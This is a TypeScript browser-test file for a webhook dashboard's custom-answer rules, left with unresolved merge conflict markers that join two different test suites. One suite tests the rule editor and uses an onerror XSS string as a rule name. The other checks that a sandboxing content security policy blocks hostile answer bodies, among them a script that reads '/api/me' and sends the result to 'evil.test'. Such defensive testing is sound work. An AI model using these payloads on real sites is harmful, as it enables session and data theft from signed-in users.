<<<<<<< HEAD

import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import type { Page } from 'playwright-core';
import { violations, violationsInBothThemes } from './accessibility.ts';
import { browserTitle, hasNoBrowser } from './chromium.ts';
import { type Dashboard, deliver, openDashboard, shownAddress } from './dashboard.ts';

setDefaultTimeout(60_000);

const hostileName = '<img src=x onerror=alert(1)>';

describe.skipIf(hasNoBrowser)(browserTitle('answers'), () => {
  let dashboard: Dashboard;
  let page: Page;
  let address: string;
  let listUrl: string;

  beforeAll(async () => {
    dashboard = await openDashboard();
    page = await dashboard.open({ reducedMotion: 'reduce' });
    await dashboard.setUp(page);
    address = await shownAddress(page);
    listUrl = page.url();
    for (let n = 0; n < 4; n++)
      await deliver(`${address}/orders?page=${n}`, JSON.stringify({ order: { id: `o-${n}` } }), {
        headers: { 'content-type': 'application/json', ...(n % 2 && { 'x-github-event': 'push' }) },
      });
  });
  afterAll(() => dashboard?.close());

  const rules = () => page.locator('.rule');
  const names = () => page.locator('.rule-toggle strong').allTextContents();
  const previewed = () => page.locator('.preview-rows li');
  const save = async (): Promise<void> => {
    await page.keyboard.press('Control+s');
    await page.getByText('Answers saved.').first().waitFor();
    await page.getByRole('button', { name: 'Dismiss' }).first().click();
  };
  const stored = async (): Promise<{ rules: Record<string, unknown>[] }> =>
    page.evaluate(async path => (await fetch(path)).json(), `/api/endpoints/${listUrl.split('/')[5]}/answers`);

  test('a rule is written with completion, checked while it is typed, tried on the last deliveries, and saved', async () => {
    await page.keyboard.press('Control+k');
    await page.keyboard.type('go to answers');
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'Answers', level: 1 }).waitFor();
    await previewed().nth(3).waitFor();
    expect(await previewed().getByText('default').count()).toBe(4);
    await page.getByRole('button', { name: 'Add a rule' }).click();
    await previewed().getByText('rule-1').nth(3).waitFor();
    const condition = page.getByRole('combobox', { name: 'Condition' });
    await condition.focus();
    await page.keyboard.type('tpye:push');
    await page.keyboard.press('Enter');
    await page.getByRole('alert').getByText('There is no field "tpye"').waitFor();
    expect(await page.locator('.rule .search-mirror mark').textContent()).toBe('tpye');
    await page.getByRole('button', { name: 'Use “type”' }).click();
    expect(await condition.inputValue()).toBe('type:push');
    await previewed().getByText('default').nth(1).waitFor();
    expect(await previewed().getByText('rule-1').count()).toBe(2);
    // Known only to the server, and shown at the field before anything is saved.
    await condition.fill('is:pinned');
    await page.keyboard.press('Enter');
    await page.getByRole('alert').getByText('Is is not known before the answer').waitFor();
    await condition.fill('t');
    await page.getByRole('option', { name: 'type:push' }).waitFor();
    expect(await page.getByRole('option', { name: 'tag:' }).count()).toBe(0);
    await page.keyboard.press('Escape');
    await condition.fill('type:push');
    await page.getByRole('button', { name: 'Add a header' }).click();
    await page.getByLabel('Name of header 1').fill('Set-Cookie');
    await page.getByText('"Set-Cookie" cannot be set by a rule.').waitFor();
    await page.getByLabel('Name of header 1').fill('Content-Type');
    await page.getByLabel('Value of Content-Type').fill('application/json');
    await page.getByLabel('Body', { exact: true }).fill('{"order":""}');
    await page
      .getByLabel('Body', { exact: true })
      .evaluate((area: HTMLTextAreaElement) => area.setSelectionRange(10, 10));
    await page.getByRole('button', { name: '{{body.order.id}}' }).click();
    expect(await page.getByLabel('Body', { exact: true }).inputValue()).toBe('{"order":"{{body.order.id}}"}');
    await page.getByLabel('Status').fill('503');
    await save();
    expect(await stored()).toMatchObject({
      rules: [{ name: 'rule-1', when: 'type:push', answer: { status: 503, body: '{"order":"{{body.order.id}}"}' } }],
    });
    const answer = await fetch(address, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-github-event': 'push' },
      body: '{"order":{"id":"o-\\"9"}}',
    });
    expect([answer.status, await answer.text()]).toEqual([503, '{"order":"o-\\"9"}']);
  });

  test('rules are added, copied, moved and removed by keyboard, and the focus stays with them', async () => {
    const focused = () =>
      page.evaluate(
        () => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent ?? '',
      );
    await page.getByRole('button', { name: 'Duplicate rule-1' }).focus();
    await page.keyboard.press('Enter');
    expect(await names()).toEqual(['rule-1', 'rule-2']);
    expect(await focused()).toContain('rule-2');
    await page.keyboard.press('Alt+ArrowUp');
    expect(await names()).toEqual(['rule-2', 'rule-1']);
    expect(await focused()).toContain('rule-2');
    await page.getByText('rule-2 is now rule 1 of 2.').waitFor({ state: 'attached' });
    await page.getByRole('button', { name: 'Move rule-2 down' }).focus();
    await page.keyboard.press('Enter');
    expect(await names()).toEqual(['rule-1', 'rule-2']);
    expect(await focused()).toBe('Move rule-2 down');
    // At the end, the button stays where it is.
    await page.keyboard.press('Enter');
    expect([await names(), await focused()]).toEqual([['rule-1', 'rule-2'], 'Move rule-2 down']);
    await page.getByRole('button', { name: 'Remove rule-2' }).focus();
    await page.keyboard.press('Enter');
    expect(await names()).toEqual(['rule-1']);
    expect(await focused()).toContain('rule-1');
    await page.getByRole('button', { name: 'Save', exact: true }).and(page.locator(':disabled')).waitFor();
  });

  test('unsaved changes survive leaving the page, and are saved only without mistakes', async () => {
    await page.getByLabel('Name', { exact: true }).fill(hostileName);
    await page.getByLabel('Only the first').fill('two');
    await page.getByRole('link', { name: '← Settings of' }).click();
    await page.getByRole('heading', { name: 'Endpoint settings' }).waitFor();
    await page.getByRole('link', { name: 'Edit answers' }).click();
    await page.getByText('Your unsaved changes are still here').waitFor();
    expect(await names()).toEqual([hostileName]);
    await page.keyboard.press('Control+s');
    await page.getByLabel('Only the first').and(page.locator(':focus')).waitFor();
    expect((await stored()).rules[0]?.['name']).toBe('rule-1');
    await page.getByLabel('Only the first').fill('2');
    await page.getByLabel('Count', { exact: true }).selectOption('the attempts of each delivery');
    await page.getByLabel('Fault').selectOption('Close the connection without an answer');
    await page.getByText('type:push, the first 2 attempts of each delivery').waitFor();
    await save();
    expect((await stored()).rules[0]).toMatchObject({ name: hostileName, per: 'delivery', first: 2 });
  });

  test('the endpoint is marked, and events say what their sender got', async () => {
    const cut = await fetch(address, { method: 'POST', headers: { 'x-github-event': 'push' }, body: '1' }).catch(
      () => 'cut',
    );
    expect(cut).toBe('cut');
    await page.goto(`${dashboard.origin}/app`);
    await page.locator('.endpoint-card').getByText('Custom answers').waitFor();
    await page.goto(listUrl);
    await page.locator('.event-row').getByText(`closed · ${hostileName}`).waitFor();
    await page.getByRole('link', { name: 'Answers connection closed: type:push' }).waitFor();
    expect(await violationsInBothThemes(page)).toEqual([]);
    await page.locator('.event-row').filter({ hasText: '503 · rule-1' }).locator('.event-link').click();
    await page.getByText('Answered 503, by the rule “rule-1”.').waitFor();
    await page.getByRole('button', { name: 'Filter by answered:503' }).click();
    await page.waitForURL(url => url.searchParams.get('where') === 'answered:503');
    await page.waitForFunction(() => document.querySelectorAll('.event-row').length === 1);
    await page.setViewportSize({ width: 360, height: 740 });
    expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
    expect(await violations(page)).toEqual([]);
    await page.setViewportSize({ width: 1280, height: 800 });
  });

  test('the page is accessible in both themes and fits a phone; presets and the way back to the default', async () => {
    await page.goto(`${listUrl.replace(/\/events.*/, '')}/answers`);
    await rules().first().waitFor();
    await page.getByRole('button', { name: 'Use the preset Rate-limited' }).click();
    await page.locator('.rule').getByText('more than 5 requests in 60 s').waitFor();
    // The browser asks before it leaves the page.
    expect(await page.goto(listUrl).catch(() => 'stayed')).toBe('stayed');
    expect(dashboard.problems.dialogs.splice(0)).toEqual(['']);
    await page.locator('.rule-toggle').click();
    expect(await violationsInBothThemes(page)).toEqual([]);
    await page.setViewportSize({ width: 360, height: 740 });
    expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
    expect(await violations(page)).toEqual([]);
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.getByRole('button', { name: 'Discard changes' }).click();
    await page.getByRole('button', { name: 'Reset to the default answer' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Reset' }).click();
    await page.getByText('No rules: the default answer').waitFor();
    expect(await stored()).toEqual({ rules: [] });
    await page.goto(`${dashboard.origin}/app`);
    await page.locator('.endpoint-card').waitFor();
    expect(await page.getByText('Custom answers').count()).toBe(0);
    const { dialogs, violations: broken, foreign, errors } = dashboard.problems;
    expect([dialogs, broken, foreign, errors]).toEqual([[], [], [], []]);
  });
});
=======

/* Hostile bodies as answers on purpose, opened in the browser of somebody who is signed in at the same origin. */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import type { Page, Response } from 'playwright-core';
import { browserTitle, hasNoBrowser } from './chromium.ts';
import { type Dashboard, openDashboard, shownAddress } from './dashboard.ts';
import { xssPayloads } from './xss.ts';

setDefaultTimeout(180_000);

/** All payloads in CI, where the browser is required; otherwise one of nine. */
const isComplete = process.env['HOOKTAPE_REQUIRE_BROWSER'] === '1';
const payloads = xssPayloads.filter((_, at) => isComplete || at % 9 === 0);

/** Reads the session, and would say so. */
const script =
  'document.cookie="stolen=1";fetch("/api/me").then(r=>r.text()).then(t=>new Image().src="http://evil.test/?"+t);alert(document.cookie)';
const documents: [type: string, body: string][] = [
  [
    'text/html',
    `<!doctype html><script>${script}</script><img src="/favicon.svg"><link rel=stylesheet href=/assets/x.css>`,
  ],
  ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><script>${script}</script></svg>`],
  ['application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`],
  ['text/xml', `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${script}</h:script></x>`],
  [
    'text/html',
    '<meta http-equiv="set-cookie" content="stolen=1"><base href="http://evil.test/"><form id=f action=x></form>',
  ],
  ['text/html', '<iframe src="/app"></iframe><object data="/app"></object><embed src="/app">'],
  ['text/javascript', `self.addEventListener("fetch",()=>{});${script}`],
  ['', `<script>${script}</script>`],
];

describe.skipIf(hasNoBrowser)(browserTitle('answers on purpose'), () => {
  let dashboard: Dashboard;
  let page: Page;
  let address: string;
  let id: string;

  beforeAll(async () => {
    dashboard = await openDashboard();
    page = await dashboard.open();
    await dashboard.setUp(page);
    address = await shownAddress(page);
    id = /\/endpoints\/(ep_\w+)/.exec(page.url())?.[1] ?? '';
  });
  afterAll(() => dashboard?.close());

  test('no dialog, no cookie, no request', async () => {
    const context = page.context();
    const cookies = JSON.stringify(await context.cookies());
    const victim = await context.newPage();
    const problems: string[] = [];
    let expected = '';
    victim.on('dialog', dialog => {
      problems.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    // The browser announces requests that the policy then stops.
    victim.on('response', response => {
      if (response.url() !== expected) problems.push(`request: ${response.url()}`);
    });
    victim.on('requestfailed', request => {
      const why = request.failure()?.errorText;
      if (why !== 'csp') problems.push(`request: ${request.url()} (${why})`);
    });
    const bodies: [string, string][] = [
      ...documents,
      ...payloads.map((text, at): [string, string] => [
        at % 2 ? 'text/html' : 'text/html; charset=utf-8',
        `<!doctype html>${text}`,
      ]),
    ];
    let scripts = 0;
    for (const [at, [type, body]] of bodies.entries()) {
      const headers = type === '' ? [] : [['Content-Type', type]];
      // Half of them arrive by a placeholder.
      const isReflected = at % 2 === 1 && at >= documents.length;
      const rules = [{ answer: { headers, body: isReflected ? '{{query.x}}' : body } }];
      const { status } = await setRules(page, id, rules);
      expect(status).toBe(200);
      expected = isReflected ? `${address}?x=${encodeURIComponent(body)}` : address;
      const response = (await victim.goto(expected, { waitUntil: 'load' }).catch(() => null)) as Response | null;
      const text = await response?.text().catch(() => '');
      if (text?.includes('alert')) scripts++;
      expect(response?.headers()['content-security-policy']).toBe("sandbox; default-src 'none'");
      await victim.waitForTimeout(10);
    }
    expect(scripts).toBeGreaterThan(payloads.length / 4);
    expect(problems).toEqual([]);
    expect(JSON.stringify(await context.cookies())).toBe(cookies);
    await victim.close();
  });

  test('a script from an answer cannot be a worker or a script of the dashboard’s origin', async () => {
    await setRules(page, id, [
      { answer: { headers: [['Content-Type', 'text/javascript']], body: 'globalThis.stolen = 1' } },
    ]);
    const registered = await page.evaluate(async url => {
      try {
        await navigator.serviceWorker.register(url, { scope: url });
        return 'registered';
      } catch (error) {
        return (error as Error).name;
      }
    }, new URL(address).pathname);
    expect(registered).not.toBe('registered');
  });
});

/** As the signed-in user. */
const setRules = (page: Page, id: string, rules: unknown): Promise<{ status: number }> =>
  page.evaluate(
    async ([endpoint, body]) => {
      const headers = { 'content-type': 'application/json' };
      const { status } = await fetch(`/api/endpoints/${endpoint}/answers`, { method: 'PUT', headers, body });
      return { status };
    },
    [id, JSON.stringify({ rules })] as const,
  );
>>>>>>> b-answers
